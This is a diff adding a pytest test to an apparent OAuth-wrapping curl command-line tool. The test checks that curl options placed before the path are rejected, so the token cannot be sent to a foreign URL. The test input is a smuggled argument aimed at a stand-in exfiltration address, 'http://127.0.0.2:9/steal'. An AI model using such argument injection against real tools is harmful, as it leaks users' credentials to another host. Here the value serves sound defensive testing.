@@ -250,6 +250,16 @@ def test_curl_sends_the_token_only_to_the_api_endpoint(emulator: Emulator, cli: 
     cli.assert_no_secrets(secrets)
 
 
+def test_curl_refuses_its_options_before_path(emulator: Emulator, cli: Cli) -> None:
+    """'-sS' in PATH's place would let curl take the next word, a URL anywhere, as its URL."""
+    secrets = seed(emulator)
+    foreign = "http://127.0.0.2:9/steal"
+    code, out, err = cli("curl", "-sS", foreign, "models")
+    assert (code, out) == (2, "") and "curl's options go after PATH" in err
+    assert "gemini-oauth curl /v1/models -sS" in err
+    cli.assert_no_secrets(secrets)
+
+
 def test_curl_missing(
     emulator: Emulator, cli: Cli, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
